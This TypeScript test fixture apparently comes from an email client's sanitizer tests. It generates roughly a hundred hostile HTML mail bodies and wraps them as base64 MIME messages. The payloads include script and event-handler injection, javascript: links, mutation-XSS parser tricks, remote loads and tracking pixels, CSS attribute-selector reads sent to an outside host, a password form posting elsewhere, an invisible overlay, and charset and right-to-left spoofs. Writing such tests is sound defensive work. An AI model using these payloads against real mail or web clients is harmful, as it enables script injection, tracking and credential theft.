/**
 * HTML of mails that want more than to be read: to run, to load, to lead away, to cover. Each would tell `outside` (an origin) by asking
 * it for something, or the page by the message `ran`, were it shown as it is.
 */
export const benign = 'Dzień dobry'

/** So that `top` and the page that embeds it learn of it. */
const run = "top.postMessage('ran','*')"

export function hostileHtml(outside: string): [name: string, html: string][] {
  const at = (path: string) => `${outside}/${path}`
  const host = outside.replace(/^https?:/, '')
  const encoded = (text: string) => encodeURIComponent(text)
  const script = `<script>${run};fetch('${at('script')}')</script>`
  const samples: readonly (readonly [string, string])[] = [
    ['a script', script],
    ['a script from elsewhere', `<script src="${at('a.js')}"></script>`],
    ['a module', `<script type="module" src="${at('a.mjs')}"></script>`],
    ['a script in odd letters', `<ScRiPt >${run}</sCrIpT >`],
    ['a script that is not closed', `<script>${run}`],
    ['a script within a script', `<scr<script>ipt>${run}</scr</script>ipt>`],
    ['an event of a picture', `<img src="x:" onerror="${run}">`],
    ['an event without quotes', `<img src=x:/onerror=${run}>`],
    ['an event behind a slash', `<img/src="x:"/onerror="${run}"/>`],
    ['an event behind a new line', `<img src="x:"\nonerror\n=\n"${run}">`],
    ['an event of the body', `<body onload="${run}" onpageshow="${run}">`],
    ['an event of details', `<details open ontoggle="${run}">x</details>`],
    ['an event of a marquee', `<marquee onstart="${run}">x</marquee>`],
    ['an event of a style', `<style onload="${run}">p{}</style>`],
    ['an event by focus', `<input autofocus onfocus="${run}"><a href="#" autofocus onfocus="${run}">x</a>`],
    [
      'an event by animation',
      `<p style="animation:x 1s" onanimationstart="${run}">x</p><style>@keyframes x{}</style>`,
    ],
    ['a link that runs', `<a href="javascript:${run}">x</a>`],
    [
      'a link that runs, in pieces',
      `<a href="java\tscr\nipt:${run}">x</a><a href="&#106;avascript&colon;${run}">y</a>`,
    ],
    ['a link with a control character before it', `<a href="\x01javascript:${run}">x</a>`],
    ['a link by vbscript', `<a href="vbscript:msgbox(1)">x</a>`],
    ['a link to a page in itself', `<a href="data:text/html,${encoded(script)}">x</a>`],
    ['a link that tells of the click', `<a href="https://customs.test" ping="${at('ping')}" download>x</a>`],
    ['a frame with a page in itself', `<iframe src="data:text/html,${encoded(script)}"></iframe>`],
    ['a frame with a written page', `<iframe srcdoc="${script.replaceAll('"', '&quot;')}"></iframe>`],
    [
      'a frame from elsewhere',
      `<iframe src="${at('frame')}"></iframe><frameset><frame src="${at('frame2')}"></frameset>`,
    ],
    ['an object', `<object data="${at('object')}"><param name="src" value="${at('param')}"></object>`],
    ['an object with a page in itself', `<object data="data:text/html;base64,${btoa(script)}"></object>`],
    ['an embed', `<embed src="${at('embed')}">`],
    ['an applet', `<applet codebase="${outside}" code="x"></applet>`],
    [
      'a form',
      `<form action="${at('form')}"><input name="password" type="password"><button>OK</button></form>`,
    ],
    [
      'a button that submits elsewhere',
      `<button form="x" formaction="javascript:${run}">x</button><form id="x"></form>`,
    ],
    ['a picture button', `<input type="image" src="${at('input.png')}">`],
    ['a page that goes away', `<meta http-equiv="refresh" content="0;url=${at('refresh')}">`],
    ['a policy of its own', `<meta http-equiv="Content-Security-Policy" content="default-src *">`],
    ['a cookie', '<meta http-equiv="Set-Cookie" content="a=b">'],
    ['a base', `<base href="${outside}/"><img src="base.png"><a href="x" target="_top">x</a>`],
    [
      'a link to a sheet',
      `<link rel="stylesheet" href="${at('a.css')}"><link rel="preload" as="image" href="${at('preload')}">`,
    ],
    [
      'a link that asks for names',
      `<link rel="dns-prefetch" href="${host}"><link rel="preconnect" href="${outside}">`,
    ],
    ['an import of a sheet', `<style>@import url("${at('import.css')}");</style>`],
    ['an import of a sheet, escaped', `<style>@\\69mport "${at('escaped.css')}";</style>`],
    ['a font', `<style>@font-face{font-family:x;src:url(${at('font')})}p{font-family:x}</style><p>x</p>`],
    ['a sheet that reads', `<style>[value^="a"]{background:url(${at('read')})}</style><input value="abc">`],
    ['an expression', `<p style="width:expression(${run})">x</p><style>p{width:expression(${run})}</style>`],
    ['a behaviour', `<p style="behavior:url(${at('x.htc')});-moz-binding:url(${at('x.xml#a')})">x</p>`],
    ['a ground from elsewhere', `<p style="background:url(${at('ground.png')})">x</p>`],
    ['a ground, escaped', `<p style="background:\\75\\72\\6c(${at('ground2.png')})">x</p>`],
    [
      'a ground behind a comment',
      `<p style="background:u/**/rl(${at('ground3.png')});b/**/ackground-image:url('${at('g4')}')">x</p>`,
    ],
    ['a ground in entities', `<p style="background:&#117;rl(&quot;${at('ground5.png')}&quot;)">x</p>`],
    [
      'a ground by another name',
      `<p style="background-image:image-set('${at('g6')}' 1x);list-style:url(${at('g7')});cursor:url(${at('g8')}),auto;content:url(${at('g9')});border-image:url(${at('g10')}) 1;mask:url(${at('g11')});filter:url(${at('g12')}#a);--x:url(${at('g13')});background:var(--x)">x</p>`,
    ],
    ['a style that ends itself', `<p style="color:red;}</style>${script}">x</p>`],
    [
      'a style that covers',
      '<div style="position:fixed;inset:0;z-index:9999;background:#fff;opacity:0">Sign in</div>',
    ],
    [
      'a ground of a table',
      `<table background="${at('table.png')}"><tr><td background="${at('cell.png')}">x</td></tr></table>`,
    ],
    ['a picture from elsewhere', `<img src="${at('pixel.gif')}" width="1" height="1">`],
    ['a picture without a scheme', `<img src="${host}/noscheme.png">`],
    [
      'a picture in sizes',
      `<img srcset="${at('2x.png')} 2x, ${at('1x.png')} 1x"><picture><source srcset="${at('source.png')}"><img src="${at('picture.png')}"></picture>`,
    ],
    [
      'a picture of an old program',
      `<img lowsrc="${at('low')}" dynsrc="${at('dyn')}" longdesc="${at('long')}" usemap="#a"><map name="a"><area href="${at('area')}" shape="default"></map>`,
    ],
    [
      'a picture that is a page',
      `<img src="data:text/html;base64,${btoa(script)}"><img src="data:image/svg+xml,${encoded(`<svg xmlns='http://www.w3.org/2000/svg' onload="${run}"/>`)}">`,
    ],
    ['a picture that says it is one', `<img src="data:image/png;base64,${btoa(script)}">`],
    ['a picture by its folder', '<img src="file:///etc/passwd"><img src="/api/me"><img src="blob:null/x">'],
    [
      'sound and film',
      `<audio src="${at('audio')}" autoplay></audio><video poster="${at('poster')}"><source src="${at('video')}"><track src="${at('track')}"></video><bgsound src="${at('bgsound')}">`,
    ],
    [
      'svg',
      `<svg onload="${run}"><script>${run}</script><image href="${at('svg.png')}"/><use href="data:image/svg+xml,x#y"/></svg>`,
    ],
    [
      'svg that animates a link',
      `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a><set attributeName="onload" to="${run}"/></svg>`,
    ],
    [
      'svg with foreign things',
      `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"></body></foreignObject></svg>`,
    ],
    [
      'math',
      `<math><maction actiontype="statusline#${at('m')}" xlink:href="javascript:${run}">x</maction></math>`,
    ],
    [
      'math, and a picture behind it',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;">`,
    ],
    ['a mutation by svg and style', `<svg></p><style><a id="</style><img src=x: onerror=${run}>">`],
    ['a mutation by noscript', `<noscript><p title="</noscript><img src=x: onerror=${run}>">`],
    [
      'a mutation by a form',
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    ],
    [
      'a mutation by a comment',
      `<!--><img src=x: onerror=${run}>--><!--!><img src=x: onerror=${run}><!-- --!><img src=x: onerror=${run}>-->`,
    ],
    [
      'a mutation by textarea',
      `<textarea><p title="</textarea><img src=x: onerror=${run}>"></textarea/><img src=x: onerror=${run}>`,
    ],
    ['a mutation by xmp', `<xmp><p title="</xmp><img src=x: onerror=${run}>">`],
    [
      'a mutation by noembed',
      `<noembed><p title="</noembed><img src=x: onerror=${run}>"><noframes><p title="</noframes><img src=x: onerror=${run}>">`,
    ],
    ['a mutation by title', `<title><p title="</title><img src=x: onerror=${run}>">`],
    [
      'a mutation by template',
      `<template><script>${run}</script></template><div><template shadowrootmode="open"><img src=x: onerror="${run}"></template></div>`,
    ],
    ['a mutation by a table', `<table><a href="javascript:${run}"><tr><td></a><img src=x: onerror=${run}>`],
    [
      'a mutation by select',
      `<select><option><style></select><img src=x: onerror=${run}></style></option></select>`,
    ],
    [
      'a mutation by backquotes',
      `<img alt="\`\`onerror=${run} src=x:"><p title="\`><img src=x: onerror=${run}>">x</p>`,
    ],
    [
      'a mutation by an entity',
      `&lt;img src=x: onerror=${run}&gt;<p>&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;</p>`,
    ],
    ['plain text for ever', `<plaintext><img src=x: onerror=${run}>`],
    [
      'a comment of another program',
      `<!--[if gte mso 9]>${script}<![endif]--><![if !mso]>${script}<![endif]>`,
    ],
    ['a section of characters', `<![CDATA[${script}]]><?xml version="1.0"?><?php echo 1 ?>`],
    [
      'a picture of vector markup',
      `<v:rect><v:fill src="${at('vml')}"/><v:imagedata src="${at('vml2')}"/></v:rect><o:p>x</o:p>`,
    ],
    ['a null in a name', `<scr\0ipt>${run}</scr\0ipt><img src="x:" on\0error="${run}">`],
    [
      'a name of our own marks',
      `<a data-to="javascript:${run}">x</a><img data-picture="0"><img data-outside="<script>${run}</script>"> <img data-picture="0"`,
    ],
    ['marks as text', `&lt;a data-to="x"&gt; &lt;img data-picture="0" <p>data-picture="0"</p>`],
    [
      'a name of every object',
      '<constructor>x</constructor><__proto__>y</__proto__><p __proto__="z" constructor="a" toString="b">w</p><toString>v</toString>',
    ],
    [
      'a name that becomes ours',
      '<p id="main" class="note" name="body">x</p><a name="top">y</a><img name="body" id="location">',
    ],
    ['a letter of another direction', '<a href="https://bank.test/\u202Egpj.exe">rachunek\u202Egpj.exe</a>'],
    ['charsets that hide', `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-`],
    [
      'charsets that hide, once more',
      `\x1b$B<script>${run}</script>\x1b(B <p title="\x1b$B">x<img src=x: onerror=${run}>`,
    ],
    ['tags that never end', `${'<div><b><i>'.repeat(30)}<img src="${at('deep')}" <p onclick="${run}"`],
    ['quotes that never end', `<img src="${at('quote')}><p title='>${script}`],
    [
      'a document in a document',
      `</body></html><html onclick="${run}"><body background="${at('body.png')}" onload="${run}">x`,
    ],
    ['an end of our page', `</div></main></body></html>${script}<div><main>`],
    [
      'an editable page',
      `<div contenteditable accesskey="x" tabindex="1" draggable="true" autofocus onclick="${run}">x</div>`,
    ],
    [
      'a dialog',
      `<dialog open><form method="dialog"><button>x</button></form></dialog><div popover id="p">x</div><button popovertarget="p">y</button>`,
    ],
    ['a portal', `<portal src="${at('portal')}"></portal><fencedframe src="${at('fenced')}"></fencedframe>`],
    [
      'rules of speculation',
      `<script type="speculationrules">{"prefetch":[{"urls":["${at('speculation')}"]}]}</script>`,
    ],
    ['a manifest', `<html manifest="${at('manifest')}"><head profile="${at('profile')}"></head>x`],
    [
      'a quotation with a source',
      `<blockquote cite="${at('cite')}">x</blockquote><q cite="javascript:${run}">y</q><ins cite="${at('ins')}">z</ins>`,
    ],
  ]
  return samples.map(([name, html]) => [name, `<p>${benign}</p>${html}`])
}

/** As a mail that holds nothing else. */
export const htmlMail = (html: string, charset = 'utf-8'): Buffer =>
  Buffer.from(
    [
      'From: Anna Nowak <anna@baltyk.test>',
      'To: desk@desk.test',
      'Subject: HTML',
      'MIME-Version: 1.0',
      `Content-Type: text/html; charset=${charset}`,
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(html)
        .toString('base64')
        .replace(/(.{76})/g, '$1\r\n'),
    ].join('\r\n'),
  )
